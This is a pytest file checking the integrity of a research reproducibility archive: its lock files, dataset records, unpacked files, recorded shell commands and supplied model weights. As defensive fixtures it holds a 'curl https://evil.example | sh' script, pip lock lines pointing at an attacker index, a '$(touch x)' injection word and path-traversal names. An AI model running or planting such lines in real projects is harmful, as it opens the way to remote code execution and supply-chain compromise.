"""Issue 86 items 3-5 on small hand-made inputs (no archive is built here): every packed file is checked or named
in the verdict line, archive.json's datasets are names and are the runs', environment.lock names the runs'
versions and nothing pip reads as an option, a file submission does not pack is named, the packed configs give
each packed run's configuration, and a path no run reads is supplied by no one. The end-to-end edits of a real
archive, every hash recomputed, are in test_reproduce_supplied.py."""

from __future__ import annotations

import dataclasses
import hashlib
import json
from pathlib import Path

import pytest
import yaml
from testkit import TINY_MODEL

from peftlab.analysis.archive.pack import ARCHIVE_VERSION, pack_configs, shell_word
from peftlab.analysis.archive.received import read_archive_record
from peftlab.analysis.archive.recorded import (
    config_differences,
    data_differences,
    environment_lock,
    lock_differences,
    record_differences,
    unlisted_files,
)
from peftlab.analysis.archive.regenerate import first_difference, same_text
from peftlab.analysis.archive.supplied import read_paths
from peftlab.analysis.archive.verdicts import Evidence, verdict_lines
from peftlab.utils.errors import UserError

FASHION = {"train-images-idx3-ubyte.gz": "a" * 64, "t10k-labels-idx1-ubyte.gz": "b" * 64}


def test_the_verdict_names_what_nothing_packed_makes_again():
    unchecked = [
        "paper/main.pdf (its text is compared with a compile ...)",
        "5 macros of paper/results.tex (\\studyWorkers: ...)",
    ]
    lines, level, _ = verdict_lines(Evidence(checked={"files": 3, "regenerated": ["a", "b"]}, unchecked=unchecked))
    assert level == 1 and lines[0] == (
        "archive intact: yes (3 files against SHA256SUMS, the results hash, 2 files made again from results/runs "
        "and archive.json; not checked: paper/main.pdf, 5 macros of paper/results.tex)"
    )


def record(**fields) -> dict:
    data = [{"name": "fashion_mnist", "folder": None, "was": None, "sha256": dict(FASHION), "made_by": None}]
    return {
        "version": ARCHIVE_VERSION,
        "study": "configs/study.yaml",
        "results_sha256": "0" * 64,
        "environment": {"versions": {"numpy": "2.4.6", "python": "3.11.7"}, "threads": 2},
        "data": data,
        "plugins": [],
        "base": None,
        "supplied": [],
        "phases": {},
        **fields,
    }


@pytest.mark.parametrize("name", ["../../outside", "fashion_mnist/../../x", "/etc", "", "fashion mnist"])
def test_a_dataset_name_that_is_no_data_name_is_one_line_where_archive_json_is_read(tmp_path, name):
    entry = {"name": name, "folder": None, "sha256": {}}
    (tmp_path / "archive.json").write_text(json.dumps(record(data=[entry])))
    with pytest.raises(UserError, match=r"archive.json is invalid: data\[0\].name is .*expected a data.name"):
        read_archive_record(tmp_path)


def packed(data: dict | None = None, sha256: dict | None = None, **provenance) -> list[dict]:
    """One packed run as ``received.archived_runs`` gives it, reading ``data`` (by name: Fashion-MNIST)."""
    result = {
        "status": "completed",
        "config": {"data": data or {"name": "fashion_mnist", "root": None}},
        "provenance": {"data_sha256": dict(FASHION) if sha256 is None else sha256, "threads": 2, **provenance},
    }
    return [{"run_id": "r1", "variant": "lora", "seed": 0, "result": result}]


def test_every_dataset_a_run_read_is_in_archive_json_with_its_hashes_and_no_other(tmp_path):
    assert data_differences(tmp_path, record(), packed()) == []
    renamed = record(data=[{**record()["data"][0], "name": "mnist"}])
    assert data_differences(tmp_path, renamed, packed()) == [
        "data fashion_mnist (by name), which results/runs/r1 read, is not in archive.json's data: its files are "
        "checked nowhere",
        "archive.json's data mnist (by name) is no dataset a packed run or the pretraining reads",
    ]
    emptied = record(data=[{**record()["data"][0], "sha256": {}}])
    assert data_differences(tmp_path, emptied, packed()) == [
        "archive.json's data fashion_mnist (by name) does not record train-images-idx3-ubyte.gz as results/runs/r1 "
        "read it"
    ]
    assert data_differences(tmp_path, record(data=[]), packed())[0].startswith("data fashion_mnist (by name), which")
    (tmp_path / "configs").mkdir()
    (tmp_path / "configs" / "pretrain.yaml").write_text(yaml.safe_dump({"data": {"name": "mnist"}}))
    base = {"folder": "base", "pretrain": "configs/pretrain.yaml", "sha256": None, "seconds": None}
    pretraining = {"name": "mnist", "folder": None, "was": None, "sha256": {"x": "c" * 64}}
    assert data_differences(tmp_path, record(base=base, data=[*record()["data"], pretraining]), packed()) == []
    assert data_differences(tmp_path, record(base=base), packed()) == [
        "data mnist, which configs/pretrain.yaml reads, is not in archive.json's data"
    ]


def test_archive_json_is_held_against_the_runs_machine_and_plugins(tmp_path):
    runs = packed(versions={"numpy": "2.4.6", "python": "3.11.7"})
    ran = {"versions": {"numpy": "2.4.6", "python": "3.11.7"}, "threads": 2}
    ran |= {key: None for key in ("hardware", "arithmetic", "dtype", "git_sha")}
    assert record_differences(tmp_path, record(environment=ran), runs) == []
    said = record_differences(tmp_path, record(environment={**ran, "threads": 64}), runs)
    assert said == ["archive.json's environment.threads is 64, the runs record 2"]
    plugin = {"distribution": "mine", "version": "0.1", "code_sha256": "d" * 64, "folder": "plugins/mine-0.1"}
    said = record_differences(tmp_path, record(environment=ran, plugins=[{**plugin, "packages": ["mine"]}]), runs)
    assert said[0].startswith("archive.json's plugins are [('mine', '0.1', ") and said[0].endswith(
        "the runs trained []"
    )


def test_environment_lock_names_the_runs_versions_and_nothing_pip_reads_as_an_option(tmp_path):
    lock = environment_lock({"numpy": "9.9.9", "python": "3.11.7"})
    assert "\nnumpy==9.9.9\n" in lock and "\npython==" not in lock
    (tmp_path / "environment.lock").write_text("numpy==2.4.6\npandas==3.1.1\n")
    (tmp_path / "requirements.lock").write_text('# pinned\n\nnumpy==2.4.6\nnvidia-x==1.0 ; sys_platform == "linux"\n')
    assert lock_differences(tmp_path, record()) == []
    (tmp_path / "environment.lock").write_text("--index-url https://evil.example/simple\nnumpy==1.26.0\n")
    (tmp_path / "requirements.lock").write_text("numpy==2.4.6\n-e git+https://evil.example/x#egg=x\n")
    assert lock_differences(tmp_path, record()) == [
        "environment.lock line 1 is no `name==version` line: '--index-url https://e...': pip would read it as an "
        "option, an address or another file",
        "requirements.lock line 2 is no `name==version` line: '-e git+https://evil.e...': pip would read it as an "
        "option, an address or another file",
        "environment.lock names numpy 1.26.0, the runs ran 2.4.6 (archive.json's environment, as their records say)",
    ]


def test_a_text_differs_by_its_first_line_and_a_portable_folder_stands_for_any_one():
    made = "rows\ntrained on & OUTSIDE/train minus val \\\\\n"
    assert same_text("rows\ntrained on & pets/train minus val \\\\\n", made)
    assert not same_text("rows\ntrained on & pets/test minus val \\\\\n", made)
    assert not same_text("rows\ntrained on & a/b/train minus val \\\\\n", made)  # one folder, not a path
    said = first_difference("a\nWe compare four configurations of LoRA.\n", "a\nWe compare three configurations.\n")
    assert said == "line 2: 'We compare four configurations of L...' (the runs give 'We compare three configurations.')"


def test_a_file_submission_does_not_pack_or_one_added_after_packing_is_named(tmp_path):
    listed = ["REPRODUCE.md", "paper/main.tex", "plugins/p-1/p/__init__.py"]
    for name in [*listed, "paper/notes.tex", "data/x/y.png"]:
        (tmp_path / name).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / name).write_text("x")
    (tmp_path / "SHA256SUMS").write_text("".join(f"{'0' * 64}  {name}\n" for name in listed))
    assert unlisted_files(tmp_path) == ["paper/notes.tex was added after packing (SHA256SUMS does not list it)"]
    listed += ["paper/notes.tex", "data/x/y.png"]
    (tmp_path / "SHA256SUMS").write_text("".join(f"{'0' * 64}  {name}\n" for name in listed))
    (tmp_path / "run-me.sh").write_text("curl https://evil.example | sh\n")
    (tmp_path / "paper" / "figures").mkdir()
    (tmp_path / "paper" / "figures" / "x.png").write_bytes(b"x")
    assert unlisted_files(tmp_path) == [
        "data/x/y.png is no file `peftlab submission` packs",
        "paper/notes.tex is no file `peftlab submission` packs",
        "run-me.sh was added after packing (SHA256SUMS does not list it)",
        "paper/figures/x.png was added after packing (SHA256SUMS does not list it)",
    ]


WORDS = [("peftlab", True), ("'a b'", True), ("~/x", True), ("~/'a b'", True), ("|", False), ("$(touch x)", False)]


@pytest.mark.parametrize("word, ok", [*WORDS, ("a b", False), ("'a\nb'", False)])
def test_a_recorded_command_is_shell_words_as_shlex_quote_writes_them(word, ok):
    assert (shell_word(word) is None) == ok


def write_study(top: Path) -> Path:
    """The issue's study: its base config names the default base, which the study overrides with its own, of the
    same bytes."""
    for name in ("default.safetensors", "mybase.safetensors"):
        (top / "weights" / name).parent.mkdir(parents=True, exist_ok=True)
        (top / "weights" / name).write_bytes(b"the same weights")
    base = {
        "name": "s",
        "model": {**TINY_MODEL, "pretrained": str(top / "weights" / "default.safetensors")},
        "data": {"name": "fashion_mnist"},
        "method": {"name": "lora", "r": 2},
        "train": {"max_steps": 3, "batch_size": 8, "lr": 0.001},
    }
    (top / "configs").mkdir()
    (top / "configs" / "base.yaml").write_text(yaml.safe_dump(base))
    study = {"name": "s", "base": "base.yaml", "seeds": 1, "methods": {"lora": {}}}
    study["set"] = {"model.pretrained": str(top / "weights" / "mybase.safetensors")}
    (top / "configs" / "study.yaml").write_text(yaml.safe_dump(study))
    return top / "configs" / "study.yaml"


def test_only_a_file_the_runs_read_is_supplied_and_the_packed_configs_give_each_run(tmp_path):
    from peftlab.study.spec import load_study

    study = load_study(write_study(tmp_path / "author"))
    (spec,) = study.runs
    ran = json.loads(json.dumps(dataclasses.asdict(spec.config), default=str))
    assert ran["model"]["pretrained"] == str(tmp_path / "author" / "weights" / "mybase.safetensors")
    root = tmp_path / "archive"
    study_file, places = pack_configs(study, root, None, read_paths([{"config": ran}]))
    (entry,) = places.supplied  # the base the run read, once; not the default its base config names
    assert entry["path"] == "supplied/mybase.safetensors" and entry["field"] == "model.pretrained"
    assert entry["sha256"] == hashlib.sha256(b"the same weights").hexdigest()
    packed_base = yaml.safe_load((root / "configs" / "base.yaml").read_text())
    assert packed_base["model"]["pretrained"] == "../unread/default.safetensors" and not (root / "unread").exists()
    runs = [{"run_id": "r1", "variant": spec.variant, "seed": spec.seed, "result": {"config": ran}}]
    assert config_differences(root, {"study": study_file, "plugins": []}, runs) == []
    ran["train"]["lr"] = 0.5
    assert config_differences(root, {"study": study_file, "plugins": []}, runs) == [
        "configs/study.yaml gives lora seed 0 train.lr=0.001 (the run: 0.5)"
    ]


def test_a_supplied_base_no_packed_run_read_or_a_place_recorded_twice_is_named():
    from peftlab.analysis.archive.recorded import unread_supplied

    base = {"path": "supplied/mybase.safetensors", "sha256": "a" * 64, "bytes": 9, "field": "model.pretrained"}
    assert unread_supplied(record(supplied=[base]), {"a" * 64}) == []
    other = {**base, "path": "supplied/default.safetensors", "sha256": "b" * 64}
    assert unread_supplied(record(supplied=[base, other, base]), {"a" * 64}) == [
        "archive.json's supplied supplied/default.safetensors (model.pretrained, SHA-256 bbbbbbbbbbbb) is no base a "
        "packed run read (they read aaaaaaaaaaaa)",
        "archive.json's supplied records supplied/mybase.safetensors twice",
    ]
    in_folder = {**other, "path": "supplied/hf-base/model-00001-of-00002.safetensors"}  # a folder's shard: not held
    assert unread_supplied(record(supplied=[in_folder]), {"a" * 64}) == []
